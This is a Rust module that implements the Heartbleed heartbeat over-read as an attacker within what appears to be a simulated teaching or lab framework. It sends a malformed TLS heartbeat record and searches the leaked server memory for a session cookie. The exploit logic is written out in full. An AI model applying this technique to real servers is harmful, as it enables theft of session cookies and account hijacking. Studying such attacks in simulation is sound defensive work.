//! Heartbleed: a message of one byte that says it has thousands, and a server that sends so many back. Found by Neel Mehta and
//! by Codenomicon, 2014.

use super::{Attacker, records};
use crate::reach::{COOKIE_LEN, Stranger};
use crate::tally::{Tally, Turn};

/// What a request of somebody else looks like.
const MARK: &[u8] = b"Cookie: session=";
/// Asked in vain so often, it is given up.
const ENOUGH: u64 = 64;

/// Asks again until a cookie lies in what comes back.
#[derive(Default)]
pub struct Heartbleed;

impl Attacker<dyn Stranger> for Heartbleed {
    fn advance(&mut self, victim: &mut (dyn Stranger + 'static), tally: &mut Tally) -> Turn {
        tally.recovered.resize(COOKIE_LEN, None);
        tally.tries += 1;
        // HeartbeatRequest, its payload said to be 1024 bytes long, and one byte of it. RFC 6520 §4.
        let message = [1, 4, 0, b'x'];
        let answer = victim.send(&[&[24, 3, 3, 0, message.len() as u8], message.as_slice()].concat());
        let memory: Vec<u8> = records(&answer).into_iter().flat_map(|(_, fragment)| fragment.to_vec()).collect();
        let found = memory.windows(MARK.len()).position(|part| part == MARK);
        let cookie = found.and_then(|at| memory.get(at + MARK.len()..at + MARK.len() + COOKIE_LEN));
        if let Some(cookie) = cookie {
            cookie.iter().enumerate().for_each(|(at, byte)| tally.reads(at, *byte));
            return Turn::Done;
        }
        if tally.tries < ENOUGH { Turn::Goes } else { Turn::GivesUp }
    }
}
